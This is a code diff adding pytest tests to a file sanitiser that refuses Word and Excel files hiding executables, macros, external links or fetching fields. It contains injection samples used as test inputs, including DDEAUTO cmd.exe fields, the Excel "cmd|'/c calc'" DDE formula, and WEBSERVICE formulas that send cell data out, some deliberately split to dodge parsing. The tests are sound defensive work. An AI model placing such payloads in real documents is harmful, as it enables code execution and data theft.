@@ -12,15 +12,19 @@ from dialogues.cleaning import EXTENSIONS, Unclean, apart, clean, office, pictur
 from dialogues.cleaning.apart import clean_apart
 from tests.dialogues.samples import (
     DOCX,
+    EMF,
     EXCEL,
     JPEG,
     MARK,
     PDF,
     PNG,
+    PRINTER,
     SCRIPT,
     WORD,
     XLSX,
     docx,
+    full_docx,
+    full_xlsx,
     pdf,
     picture,
     relations,
@@ -366,10 +370,10 @@ def test_what_lies_behind_or_between_the_parts_of_a_file_is_left_behind():
 
 
 def test_document_keeps_its_parts_and_its_pictures_tell_no_place():
-    sent = docx(**{"word/media/image1.jpg": photograph(), "word/media/drawing.emf": b"a drawing"})
+    sent = docx(**{"word/media/image1.jpg": photograph(), "word/media/drawing.emf": EMF})
     with zipfile.ZipFile(io.BytesIO(clean(sent, ".docx").content)) as kept:
         assert b"To whom it may concern" in kept.read("word/document.xml")
-        assert kept.read("word/media/drawing.emf") == b"a drawing"
+        assert kept.read("word/media/drawing.emf") == EMF
         assert b"Telephone" not in kept.read("word/media/image1.jpg")
 
 
@@ -405,8 +409,86 @@ def test_document_with_another_file_inside_is_refused_and_names_it(name):
     refused(docx(**{name: b"a"}), ".docx", rf"has another file inside it \({name.rpartition('/')[2]}\). Take that out")
 
 
-def test_printers_settings_of_a_workbook_are_no_other_file():
-    assert clean(xlsx(**{"xl/printerSettings/printerSettings1.bin": b"a"}), ".xlsx")
+@pytest.mark.parametrize(("sent", "extension"), [(full_docx(), ".docx"), (full_xlsx(), ".xlsx")])
+def test_what_people_put_into_office_files_stays(sent, extension):
+    with zipfile.ZipFile(io.BytesIO(sent)) as made, zipfile.ZipFile(io.BytesIO(clean(sent, extension).content)) as kept:
+        assert sorted(kept.namelist()) == sorted(made.namelist())
+        drawn_anew = (".png", ".jpeg")
+        assert all(kept.read(name) == made.read(name) for name in made.namelist() if not name.endswith(drawn_anew))
+
+
+@pytest.mark.parametrize(
+    ("name", "part", "kind"),
+    [
+        ("word/printerSettings/p.bin", b"MZ\x90\x00", "printerSettings"),
+        ("word/printerSettings/p.bin", b"MZ\x90\x00", None),
+        ("word/printerSettings/p.bin", PRINTER, None),
+        ("word/printerSettings/p.bin", PRINTER, "oleObject"),
+        ("word/printerSettings/p.bin", PRINTER, "image"),
+        ("word/printerSettings/p.bin", PRINTER, "styles"),
+        ("word/media/p.emf", EMF, "oleObject"),
+        ("word/media/p.emf", EMF, "package"),
+        ("word/media/p.emf", EMF, "font"),
+        ("word/media/p.emf", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.wmf", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.gif", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.bmp", b"BMZ\x90\x00" * 20, "image"),
+        ("word/media/p.tif", b"MZ\x90\x00" * 20, "image"),
+        ("word/fonts/p.odttf", b"MZ\x90\x00" * 20, "font"),
+    ],
+)
+def test_document_with_another_file_in_disguise_is_refused(name, part, kind):
+    drawn = relations(*[(kind, name.removeprefix("word/"))] if kind else [])
+    refused(docx(**{name: part, "word/_rels/document.xml.rels": drawn}), ".docx", r"has another file inside it \(p\.")
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "match"),
+    [
+        ("vbaProject", "media/a.emf", "has macros"),
+        ("keyMapCustomizations", "a.xml", "has macros"),
+        ("customUI", "a.xml", r"holds something that can't be taken along \(customui\)\. Save it as a PDF"),
+        ("../../else/sort", "a.xml", r"holds something that can't be taken along \(sort\)\. Save it as a PDF"),
+        ("image", "https://example.org/a.png", "draws on something outside it"),
+        ("image", "//example.org/a.png", "draws on something outside it"),
+        ("styles", "media/a.bin#a.xml", "draws on something outside it"),
+        ("styles", "media/a.bin%23a.xml", "draws on something outside it"),
+        ("hyperlink", "file://server/share/list.xlsx", "draws on something outside it"),
+    ],
+)
+def test_relation_that_is_not_known_to_do_no_harm_is_refused(kind, target, match):
+    refused(docx(**{"word/_rels/document.xml.rels": relations((kind, target))}), ".docx", match)
+
+
+OUTSIDE = relations(("image", "https://example.org/a.png", "External"))
+INSIDE = relations(("image", "media/a.png"))
+
+
+@pytest.mark.parametrize(
+    ("name", "part"),
+    [
+        ("word/_rels/document.xml.rels", OUTSIDE.replace(" Id=", ' xmlns:x="x" x:TargetMode="Internal" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace(" Id=", ' xmlns:x="x" x:Type="/hyperlink" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace(" Id=", ' xmlns:x="x" x:TargetMode="External" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace("/package/2006/", "/package/2007/")),
+        (
+            "[Content_Types].xml",
+            types(
+                ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
+                ("word/a.xml", f"{WORD}.main+xml"),
+            ).replace(" ContentType=", ' xmlns:x="x" x:ContentType="a" ContentType='),
+        ),
+        ("[Content_Types].xml", types(("word/document.xml", f"{WORD}.main+xml")).replace("content-types", "other")),
+    ],
+)
+def test_part_that_readers_do_not_read_alike_is_refused(name, part):
+    refused(docx(**{name: part}), ".docx", "damaged or something else")
+
+
+@pytest.mark.parametrize("mode", ["external", "External ", ""])
+def test_relation_that_is_neither_inside_nor_outside_is_refused(mode):
+    sent = docx(**{"word/_rels/document.xml.rels": relations(("styles", "styles.xml", mode))})
+    refused(sent, ".docx", "draws on something outside it")
 
 
 @pytest.mark.parametrize(
@@ -437,6 +519,15 @@ def test_workbook_that_draws_on_another_is_refused():
     refused(sent, ".xlsx", "draws on something outside it")
 
 
+def with_types(*kinds):
+    """The types of a document with two types for one part."""
+    return docx(**{"[Content_Types].xml": types(*[("word/document.xml", kind) for kind in kinds])})
+
+
+def test_type_of_macros_is_found_behind_another_of_the_same_part():
+    refused(with_types("application/vnd.ms-word.document.macroEnabled.main+xml", f"{WORD}.main+xml"), ".docx", "macros")
+
+
 def in_words(*runs):
     """A document whose one paragraph holds these runs: text of a field's code, or what begins and ends a field."""
     marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
@@ -446,7 +537,9 @@ def in_words(*runs):
 
 def in_document(body):
     space = (
-        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
+        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="x" mc:Ignorable="x" '
+        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
     )
     return docx(**{"word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>"})
 
@@ -475,6 +568,48 @@ def test_document_whose_fields_fetch_something_is_refused(sent):
     refused(sent, ".docx", "draws on something outside it")
 
 
+def in_a_field(*pieces):
+    begins, ends = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return in_document(f"<w:p>{begins}{''.join(pieces)}{ends}</w:p>")
+
+
+def run(code):
+    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        in_document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe" x:instr="PAGE"/></w:p>'),
+        in_document('<w:pict><v:imagedata src="https://example.org/seen.png" x:src="a"/></w:pict>'),
+        in_a_field(run("<x:a></x:a>DDEAUTO c:\\cmd.exe")),
+        in_a_field(run("PAGE<x:a>!</x:a>")),
+    ],
+    ids=["simple field", "drawn picture", "field behind another element", "element in a field"],
+)
+def test_document_whose_code_readers_do_not_read_alike_is_refused(sent):
+    refused(sent, ".docx", "damaged or something else")
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        in_a_field(run("DD"), f"<x:a>{run('zzz')}</x:a>", run("EAUTO c:\\cmd.exe")),
+        in_a_field(run("DD"), '<x:fldChar x:fldCharType="separate"/>', run("EAUTO c:\\cmd.exe")),
+        in_a_field(
+            "<mc:AlternateContent>",
+            f'<mc:Choice Requires="x">{run("PAGE")}</mc:Choice>',
+            f"<mc:Fallback>{run('DD')}</mc:Fallback></mc:AlternateContent>",
+            run("EAUTO c:\\cmd.exe"),
+        ),
+        in_document('<w:pict><v:image src=" https://example.org/seen.png"/></w:pict>'),
+    ],
+    ids=["run passed over", "mark passed over", "run chosen", "drawn picture"],
+)
+def test_field_half_of_which_a_reader_passes_over_is_refused(sent):
+    refused(sent, ".docx", "draws on something outside it")
+
+
 def test_fields_that_fetch_nothing_stay():
     """Page numbers, contents, reckoning, links that a person presses."""
     runs = ["{", " PAGE ", "}", "{", "=", "{", "PAGE", "}", "+1", "}", "{", ' TOC \\o "1-3" \\h ', "}"]
@@ -491,10 +626,31 @@ def in_a_cell(formula):
 
 @pytest.mark.parametrize(
     "formula",
-    ["cmd|'/c calc'!A0", '_xlfn.WEBSERVICE("https://example.org/"&amp;A1)', '_xlfn.IMAGE("https://example.org/a.png")'],
+    [
+        "cmd|'/c calc'!A0",
+        '_xlfn.WEBSERVICE("https://example.org/"&amp;A1)',
+        '_xlfn.IMAGE("https://example.org/a.png")',
+        """'a"b'!A1&amp;_xlfn.WEBSERVICE("https://example.org/"&amp;A2)""",
+        """'a"b'!A1+cmd|'/c calc'!A0&amp;"\"""",
+        """'it''s "a'!A1+cmd|'/c calc'!A0&amp;"\"""",
+        """Cases[a"b]&amp;_xlfn.WEBSERVICE("https://example.org/")""",
+        """Cases[a'[]&amp;_xlfn.WEBSERVICE("https://example.org/")&amp;Cases[a'[]""",
+        "_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)",
+    ],
 )
 def test_workbook_whose_formulas_fetch_something_is_refused(formula):
     refused(in_a_cell(formula), ".xlsx", "draws on something outside it")
+
+
+@pytest.mark.parametrize("formula", ["<x></x>_xlfn.WEBSERVICE(A1)", "_xlfn.WEB<x/>SERVICE(A1)", "1<f>2</f>"])
+def test_formula_with_another_element_in_it_is_refused(formula):
+    refused(in_a_cell(formula), ".xlsx", "damaged or something else")
+
+
+@pytest.mark.parametrize("kind", ["definedName", "formula", "calculatedColumnFormula"])
+def test_formula_that_stands_elsewhere_is_found(kind):
+    more = f"<a><{kind}>_xlfn.WEBSERVICE(A1)</{kind}></a>"
+    refused(xlsx(**{"xl/more.xml": more}), ".xlsx", "draws on something outside it")
 
 
 def test_workbook_on_a_database_is_refused():
